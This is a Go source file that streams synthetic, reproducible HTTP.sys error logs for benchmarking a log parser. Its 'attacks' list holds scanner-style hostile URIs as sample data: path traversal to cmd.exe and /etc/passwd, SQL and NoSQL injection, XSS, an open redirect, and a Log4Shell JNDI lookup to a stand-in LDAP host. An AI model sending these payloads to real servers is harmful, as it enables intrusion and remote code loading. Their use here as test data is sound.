// Package httperrgen generates realistic, reproducible HTTP.sys error logs
// (httperr*.log) for benchmarks and memory measurements of package errlog.
//
// The output follows the profile in issue 3 and the format facts in the
// project's reference dossier: CRLF line endings; a #Software/#Version/#Date/
// #Fields directive block at the start and again every ~50k lines, every
// third block switching to the 14-column layout with streamid; mostly
// Timer_ConnectionIdle lines whose request fields are all "-", then 400s
// with plausible (and hostile) methods and URIs of up to ~2 KB, 503s with
// application-pool queue names, and a tail of dropped, abandoned and timed-out
// connections; about 20% IPv6 peers, some with zones (%0, %12) and some in
// ISATAP form; non-decreasing timestamps; numeric site ids where IIS routed
// the request. All values are invented here; nothing is copied from
// third-party logs.
//
// A generator never holds its output: [NewReader] streams lines from a small
// reused buffer, so gigabytes can be produced in constant memory. The same
// [Options] always give the same bytes.
package httperrgen

import (
	"io"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"time"
)

// Default values used for zero fields of [Options].
const (
	DefaultSeed       = 20260302
	DefaultBlockEvery = 50_000
)

// DefaultStart is the timestamp of the first line when Options.Start is zero.
var DefaultStart = time.Date(2026, time.March, 2, 0, 0, 0, 0, time.UTC)

// Field lists of the two layouts the generator writes.
const (
	// Fields13 is the classic 13-column layout (Windows Server 2003–2012 R2).
	Fields13 = "date time c-ip c-port s-ip s-port cs-version cs-method cs-uri sc-status s-siteid s-reason s-queuename"
	// Fields14 adds the HTTP/2 streamid column (Windows Server 2016 and later).
	Fields14 = "date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid sc-status s-siteid s-reason s-queuename"
)

// Options configure a generator. The zero value generates nothing; set Lines
// or Bytes.
type Options struct {
	// Seed selects the pseudo-random sequence (PCG). 0 means DefaultSeed.
	Seed uint64
	// Lines stops the output after this many data lines (records), not
	// counting directives. 0 means no line limit.
	Lines int
	// Bytes stops the output at the end of the first line that brings the
	// total to at least Bytes bytes. 0 means no byte limit. With both Lines
	// and Bytes set, the first limit reached wins.
	Bytes int64
	// BlockEvery is the mean number of data lines between directive blocks
	// (each block is jittered by up to ±10%). 0 means DefaultBlockEvery.
	BlockEvery int
	// Start is the time of the first line. The zero value means DefaultStart.
	Start time.Time
	// LF ends lines with "\n" instead of HTTP.sys's "\r\n".
	LF bool
}

// Stats counts what a generator has written so far. Callers use it as the
// ground truth when checking readers against the generated input.
type Stats struct {
	Bytes        int64 // bytes written
	Records      int   // data lines
	Directives   int   // directive lines (four per block)
	Blocks       int   // directive blocks
	StreamID     int   // data lines written under the 14-column layout
	Idle         int   // Timer_ConnectionIdle lines
	Status400    int   // lines with sc-status 400
	Status503    int   // lines with sc-status 503
	NoStatus     int   // lines with sc-status "-"
	IPv6         int   // lines whose client address is IPv6
	Zoned        int   // lines whose client address carries a zone
	SiteID       int   // lines with a numeric s-siteid
	MaxLineBytes int   // longest line including its terminator
}

// Reader streams a generated log. It implements io.Reader.
type Reader struct {
	opts  Options
	rng   *rand.Rand
	eol   string
	line  []byte // current line, reused
	pend  []byte // unread part of line
	stats Stats

	now        int64 // current unix second
	stampSec   int64 // second the cached stamp was formatted for
	stamp      []byte
	nextBlock  int // record count at which the next block starts
	blocks     int
	streamMode bool
	streamSeq  uint32
	done       bool

	noise      []byte // random URL characters for long queries
	c4, c6, s4 []string
	c6z        [][2]string // zoned client/server pairs
}

// NewReader returns a generator streaming the log described by opts.
func NewReader(opts Options) *Reader {
	if opts.Seed == 0 {
		opts.Seed = DefaultSeed
	}
	if opts.BlockEvery <= 0 {
		opts.BlockEvery = DefaultBlockEvery
	}
	if opts.Start.IsZero() {
		opts.Start = DefaultStart
	}
	r := &Reader{
		opts:     opts,
		rng:      rand.New(rand.NewPCG(opts.Seed, opts.Seed^0x9e3779b97f4a7c15)),
		eol:      "\r\n",
		line:     make([]byte, 0, 4096),
		now:      opts.Start.Unix(),
		stampSec: -1 << 62,
	}
	if opts.LF {
		r.eol = "\n"
	}
	r.pools()
	return r
}

// Write writes the log described by opts to w and returns its statistics.
func Write(w io.Writer, opts Options) (Stats, error) {
	r := NewReader(opts)
	_, err := io.Copy(w, r)
	return r.Stats(), err
}

// Stats reports what has been generated so far (all of it once Read has
// returned io.EOF).
func (r *Reader) Stats() Stats { return r.stats }

// Read implements io.Reader.
func (r *Reader) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		if len(r.pend) == 0 {
			if !r.next() {
				break
			}
		}
		c := copy(p[n:], r.pend)
		r.pend = r.pend[c:]
		n += c
	}
	if n == 0 && len(p) > 0 {
		return 0, io.EOF
	}
	return n, nil
}

// next produces the next line (directive or record) into r.line.
func (r *Reader) next() bool {
	if r.done {
		return false
	}
	if (r.opts.Lines > 0 && r.stats.Records >= r.opts.Lines) ||
		(r.opts.Bytes > 0 && r.stats.Bytes >= r.opts.Bytes) ||
		(r.opts.Lines <= 0 && r.opts.Bytes <= 0) {
		r.done = true
		return false
	}
	r.line = r.line[:0]
	if r.stats.Records >= r.nextBlock && r.blocks*4 == r.stats.Directives {
		r.startBlock()
	}
	if r.blocks*4 > r.stats.Directives {
		r.directive(r.stats.Directives % 4)
		r.stats.Directives++
	} else {
		r.record()
		r.stats.Records++
	}
	r.line = append(r.line, r.eol...)
	r.stats.Bytes += int64(len(r.line))
	r.stats.MaxLineBytes = max(r.stats.MaxLineBytes, len(r.line))
	r.pend = r.line
	return true
}

func (r *Reader) startBlock() {
	// Every third block (the 2nd, 5th, ...) is written by a newer HTTP.sys
	// with the streamid column: a service restart after an OS upgrade.
	r.streamMode = r.blocks%3 == 1
	r.blocks++
	r.stats.Blocks++
	j := r.opts.BlockEvery / 10
	n := r.opts.BlockEvery
	if j > 0 {
		n += r.rng.IntN(2*j+1) - j
	}
	r.nextBlock = r.stats.Records + max(n, 1)
}

func (r *Reader) directive(i int) {
	switch i {
	case 0:
		r.line = append(r.line, "#Software: Microsoft HTTP API 2.0"...)
	case 1:
		r.line = append(r.line, "#Version: 1.0"...)
	case 2:
		r.line = append(r.line, "#Date: "...)
		r.line = append(r.line, r.timestamp()...)
	case 3:
		r.line = append(r.line, "#Fields: "...)
		if r.streamMode {
			r.line = append(r.line, Fields14...)
		} else {
			r.line = append(r.line, Fields13...)
		}
	}
}

// timestamp returns "YYYY-MM-DD hh:mm:ss" for r.now, cached per second.
func (r *Reader) timestamp() []byte {
	if r.stampSec != r.now {
		r.stamp = time.Unix(r.now, 0).UTC().AppendFormat(r.stamp[:0], time.DateTime)
		r.stampSec = r.now
	}
	return r.stamp
}

// kind of a generated record.
type kind uint8

const (
	kIdle kind = iota
	k400
	k503
	kOther
)

// record appends one data line.
func (r *Reader) record() {
	// Time moves forward by 0–4 s; most bursts share a second.
	if r.rng.IntN(10) >= 6 {
		r.now += 1 + int64(r.rng.IntN(4))
	}
	if r.streamMode {
		r.stats.StreamID++
	}
	var k kind
	switch p := r.rng.IntN(100); {
	case p < 70:
		k = kIdle
	case p < 84:
		k = k400
	case p < 92:
		k = k503
	default:
		k = kOther
	}

	// Addresses: about 20% of connections are IPv6, a third of those zoned.
	var cip, sip string
	if r.rng.IntN(5) == 0 {
		r.stats.IPv6++
		if r.rng.IntN(3) == 0 {
			pair := r.c6z[r.rng.IntN(len(r.c6z))]
			cip, sip = pair[0], pair[1]
			r.stats.Zoned++
		} else {
			cip = r.c6[r.rng.IntN(len(r.c6))]
			sip = r.s4[len(r.s4)-1] // the global IPv6 servers, the main one mostly
			if r.rng.IntN(4) == 0 {
				sip = r.s4[len(r.s4)-2]
			}
		}
	} else {
		cip = r.c4[r.rng.IntN(len(r.c4))]
		// One log is written per machine: its main binding takes most
		// connections, a few secondary addresses the rest.
		sip = r.s4[0]
		if r.rng.IntN(4) == 0 {
			sip = r.s4[1+r.rng.IntN(len(r.s4)-3)]
		}
	}
	sport := serverPorts[r.rng.IntN(len(serverPorts))]

	b := append(r.line, r.timestamp()...)
	b = append(b, ' ')
	b = append(b, cip...)
	b = append(b, ' ')
	b = strconv.AppendUint(b, uint64(49152+r.rng.IntN(16384)), 10)
	b = append(b, ' ')
	b = append(b, sip...)
	b = append(b, ' ')
	b = append(b, sport...)
	b = append(b, ' ')

	switch k {
	case kIdle:
		r.stats.Idle++
		r.stats.NoStatus++
		b = append(b, "- - -"...)
		b = r.streamID(b, false)
		b = append(b, " - - Timer_ConnectionIdle -"...)
	case k400:
		b = r.badRequest(b)
	case k503:
		b = r.unavailable(b)
	default:
		b = r.other(b)
	}
	r.line = b
}

// request appends "cs-version cs-method cs-uri" and the streamid column if
// the layout has it.
func (r *Reader) request(b []byte, method string, uriKind int) []byte {
	h2 := r.streamMode && r.rng.IntN(3) == 0
	switch {
	case h2:
		b = append(b, "HTTP/2.0"...)
	case r.rng.IntN(20) == 0:
		b = append(b, "HTTP/1.0"...)
	default:
		b = append(b, "HTTP/1.1"...)
	}
	b = append(b, ' ')
	b = append(b, method...)
	b = append(b, ' ')
	b = r.uri(b, uriKind)
	return r.streamID(b, h2)
}

func (r *Reader) streamID(b []byte, h2 bool) []byte {
	if !r.streamMode {
		return b
	}
	if !h2 {
		return append(b, " -"...)
	}
	r.streamSeq += 2
	return strconv.AppendUint(append(b, ' '), uint64(r.streamSeq%1000+1), 10)
}

// tail appends " status siteid reason queue".
func (r *Reader) tail(b []byte, status, reason string, site bool, queue string) []byte {
	b = append(b, ' ')
	b = append(b, status...)
	switch status {
	case "400":
		r.stats.Status400++
	case "503":
		r.stats.Status503++
	case "-":
		r.stats.NoStatus++
	}
	b = append(b, ' ')
	if site {
		r.stats.SiteID++
		b = append(b, siteIDs[r.rng.IntN(len(siteIDs))]...)
	} else {
		b = append(b, '-')
	}
	b = append(b, ' ')
	b = append(b, reason...)
	b = append(b, ' ')
	return append(b, queue...)
}

func (r *Reader) badRequest(b []byte) []byte {
	p := r.rng.IntN(100)
	switch {
	case p < 40:
		b = r.request(b, r.method(), uriAny)
		return r.tail(b, "400", "BadRequest", r.rng.IntN(4) == 0, "-")
	case p < 52:
		b = r.request(b, r.method(), uriShort)
		return r.tail(b, "400", "Hostname", false, "-")
	case p < 60:
		// HTTP.sys could not parse the verb: everything is "-".
		b = append(b, "- - -"...)
		b = r.streamID(b, false)
		return r.tail(b, "400", "Verb", false, "-")
	case p < 72:
		b = r.request(b, "GET", uriAttack)
		return r.tail(b, "400", "URL", false, "-")
	case p < 80:
		b = r.request(b, r.method(), uriShort)
		return r.tail(b, "400", "Header", false, "-")
	case p < 86:
		b = r.request(b, r.method(), uriLong)
		return r.tail(b, "400", "FieldLength", false, "-")
	case p < 91:
		b = r.request(b, "POST", uriLong)
		return r.tail(b, "400", "RequestLength", false, "-")
	case p < 94:
		b = r.request(b, "GET", uriLong)
		return r.tail(b, "414", "URL_Length", false, "-")
	case p < 96:
		b = append(b, "HTTP/9.1 GET /"...)
		b = r.streamID(b, false)
		return r.tail(b, "505", "Version_N/S", false, "-")
	case p < 98:
		b = r.request(b, "GET", uriShort)
		return r.tail(b, "404", "NotFound", false, "-")
	default:
		b = r.request(b, "GET", uriAttack)
		return r.tail(b, "403", "Forbidden", false, "-")
	}
}

func (r *Reader) unavailable(b []byte) []byte {
	p := r.rng.IntN(100)
	pool := appPools[r.rng.IntN(len(appPools))]
	switch {
	case p < 30:
		b = r.request(b, r.method(), uriQuery)
		return r.tail(b, "503", "QueueFull", true, pool)
	case p < 55:
		b = r.request(b, r.method(), uriQuery)
		return r.tail(b, "503", "AppOffline", true, pool)
	case p < 70:
		b = r.request(b, "GET", uriShort)
		return r.tail(b, "503", "ConnLimit", false, "-")
	case p < 88:
		// No binding matched the host header.
		b = r.request(b, "GET", uriShort)
		return r.tail(b, "503", "N/A", false, "-")
	case p < 95:
		b = r.request(b, r.method(), uriQuery)
		return r.tail(b, "503", "Disabled", true, pool)
	default:
		b = r.request(b, r.method(), uriQuery)
		return r.tail(b, "503", "AppPoolTimer", true, pool)
	}
}

func (r *Reader) other(b []byte) []byte {
	p := r.rng.IntN(100)
	pool := appPools[r.rng.IntN(len(appPools))]
	switch {
	case p < 35:
		b = r.request(b, r.method(), uriQuery)
		return r.tail(b, "-", "Connection_Dropped", true, pool)
	case p < 50:
		b = r.request(b, r.method(), uriShort)
		return r.tail(b, "-", "Connection_Abandoned_By_ReqQueue", false, "-")
	case p < 70:
		if r.rng.IntN(4) == 0 {
			b = r.request(b, "POST", uriShort)
		} else {
			b = append(b, "- - -"...)
			b = r.streamID(b, false)
		}
		return r.tail(b, "-", "Timer_MinBytesPerSecond", false, "-")
	case p < 85:
		b = append(b, "- - -"...)
		b = r.streamID(b, false)
		return r.tail(b, "-", "Client_Reset", false, "-")
	case p < 92:
		b = r.request(b, "POST", uriShort)
		return r.tail(b, "-", "Timer_EntityBody", false, "-")
	case p < 96:
		b = append(b, "- - -"...)
		b = r.streamID(b, false)
		return r.tail(b, "-", "Timer_HeaderWait", false, "-")
	default:
		b = r.request(b, r.method(), uriQuery)
		return r.tail(b, "-", "Connection_Abandoned_By_AppPool", true, pool)
	}
}

func (r *Reader) method() string {
	p := r.rng.IntN(1000)
	switch {
	case p < 780:
		return "GET"
	case p < 900:
		return "POST"
	case p < 940:
		return "HEAD"
	case p < 960:
		return "OPTIONS"
	default:
		return rareMethods[r.rng.IntN(len(rareMethods))]
	}
}

// URI kinds.
const (
	uriShort = iota
	uriQuery
	uriAttack
	uriLong
	uriAny
)

func (r *Reader) uri(b []byte, k int) []byte {
	if k == uriAny {
		switch p := r.rng.IntN(100); {
		case p < 45:
			k = uriShort
		case p < 75:
			k = uriQuery
		case p < 93:
			k = uriAttack
		default:
			k = uriLong
		}
	}
	switch k {
	case uriAttack:
		return append(b, attacks[r.rng.IntN(len(attacks))]...)
	case uriLong:
		// 512 bytes to ~2 KB: a path followed by a long query string.
		b = r.path(b)
		// The query is a random window of a random block: cheap, and
		// still different from line to line.
		n := 512 + r.rng.IntN(1537)
		off := r.rng.IntN(len(r.noise) - n)
		b = append(b, "?q="...)
		return append(b, r.noise[off:off+n]...)
	default:
		b = r.path(b)
		if k == uriQuery || r.rng.IntN(5) == 0 {
			b = append(b, '?')
			np := 1 + r.rng.IntN(4)
			for i := 0; i < np; i++ {
				if i > 0 {
					b = append(b, '&')
				}
				b = append(b, params[r.rng.IntN(len(params))]...)
				b = append(b, '=')
				b = strconv.AppendUint(b, uint64(r.rng.IntN(100000)), 10)
			}
		}
		return b
	}
}

func (r *Reader) path(b []byte) []byte {
	n := r.rng.IntN(4)
	for i := 0; i < n; i++ {
		b = append(b, '/')
		b = append(b, segments[r.rng.IntN(len(segments))]...)
	}
	b = append(b, '/')
	return append(b, files[r.rng.IntN(len(files))]...)
}

// pools builds the address pools. Clients repeat, as they do in real logs.
func (r *Reader) pools() {
	r.c4 = make([]string, 2048)
	for i := range r.c4 {
		a := [4]byte{byte(1 + r.rng.IntN(223)), byte(r.rng.IntN(256)), byte(r.rng.IntN(256)), byte(1 + r.rng.IntN(254))}
		if a[0] == 10 || a[0] == 127 {
			a[0] = 100
		}
		r.c4[i] = netip.AddrFrom4(a).String()
	}
	r.c6 = make([]string, 512)
	for i := range r.c6 {
		var a [16]byte
		prefixes := [][]byte{{0x20, 0x01, 0x0d, 0xb8}, {0x2a, 0x02, 0x0c, 0x7f}, {0x26, 0x00, 0x1f, 0x18}, {0x24, 0x0e, 0x00, 0x03}}
		copy(a[:], prefixes[r.rng.IntN(len(prefixes))])
		for j := 4; j < 16; j++ {
			if j < 8 && r.rng.IntN(2) == 0 {
				continue // leave zero groups so some addresses compress
			}
			a[j] = byte(r.rng.IntN(256))
		}
		r.c6[i] = netip.AddrFrom16(a).String()
	}
	// Zoned pairs: ISATAP (…:0:5efe:a.b.c.d%0), link-local fe80::…%N and
	// loopback ::1%0. Client and server always share the form.
	r.c6z = make([][2]string, 0, 64)
	// Windows writes the embedded IPv4 address of an ISATAP interface
	// identifier in dotted form, which netip's String does not.
	const isatap = "2001:db8:1f:fff:0:5efe:"
	for i := 0; i < 24; i++ {
		v4 := netip.AddrFrom4([4]byte{10, byte(20 + r.rng.IntN(8)), byte(r.rng.IntN(256)), byte(1 + r.rng.IntN(254))})
		r.c6z = append(r.c6z, [2]string{isatap + v4.String() + "%0", isatap + "10.20.1.4%0"})
	}
	for i := 0; i < 24; i++ {
		zone := strconv.Itoa([]int{12, 12, 12, 7, 15}[r.rng.IntN(5)])
		var a [16]byte
		a[0], a[1] = 0xfe, 0x80
		for j := 8; j < 16; j++ {
			a[j] = byte(r.rng.IntN(256))
		}
		s := netip.MustParseAddr("fe80::5d1c:2e7f:9a40:11c3")
		r.c6z = append(r.c6z, [2]string{netip.AddrFrom16(a).WithZone(zone).String(), s.WithZone(zone).String()})
	}
	for i := 0; i < 8; i++ {
		r.c6z = append(r.c6z, [2]string{"::1%0", "::1%0"})
	}
	r.noise = make([]byte, 8192)
	for i := range r.noise {
		r.noise[i] = urlSafe[r.rng.IntN(len(urlSafe))]
	}
	// IPv4 servers first (the main binding at 0), the two global IPv6
	// servers last (the main one at the end).
	r.s4 = []string{"10.20.1.4", "10.20.1.5", "10.20.1.6", "192.168.10.21", "172.16.4.10", "2001:db8:4a1::15", "2001:db8:4a1::16"}
}

var (
	serverPorts = []string{"80", "80", "80", "443", "443", "443", "443", "8080", "8172"}
	siteIDs     = []string{"1", "1", "1", "2", "3", "4", "7", "1022", "350612907"}
	appPools    = []string{"DefaultAppPool", "DefaultAppPool", "DefaultAppPool", "ShopAppPool", "api_v2", "Reporting.NET4", "MSExchangeOWAAppPool"}
	rareMethods = []string{"PUT", "DELETE", "PROPFIND", "PATCH", "TRACE", "CONNECT", "M-POST", "BASELINE-CONTROL", "SEARCH", "RPC_IN_DATA", "MKCOL", "QUIT", "GETT", "xz9"}
	segments    = []string{"api", "v1", "v2", "shop", "cart", "images", "static", "js", "css", "account", "owa", "ecp", "admin", "reports", "2026", "content", "Services", "aspnet_client", "uploads", "en-us"}
	files       = []string{"", "index.html", "default.aspx", "login.aspx", "logo.png", "app.js", "site.css", "favicon.ico", "orders", "health", "Service.svc", "search", "robots.txt", "item.aspx", "status"}
	params      = []string{"id", "q", "page", "lang", "sort", "sessionid", "ReturnUrl", "utm_source", "v", "token"}
	urlSafe     = []byte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789%-_.~+=&")
	// Hostile request targets in the style scanners send; all without raw
	// spaces, since HTTP.sys writes spaces inside a field as '+'.
	attacks = []string{
		"/..%255c..%255c..%255cwindows/system32/cmd.exe?/c+ver",
		"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+type+c:\\boot.ini",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
		"/index.php?id=1'+OR+'1'='1'--",
		"/products.aspx?cat=7;WAITFOR+DELAY+'0:0:5'--",
		"/search?q=<script>alert(document.domain)</script>",
		"/${jndi:ldap://198.51.100.7:1389/a}",
		"/.env",
		"/.git/config",
		"/wp-login.php",
		"/phpmyadmin/index.php?lang=en",
		"\\..\\..\\..\\..\\boot.ini",
		"/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
		"/api/items?filter={\"$where\":\"sleep(5000)\"}",
		"/login.aspx?ReturnUrl=//evil.example/|^~[]`",
		"*",
	}
)
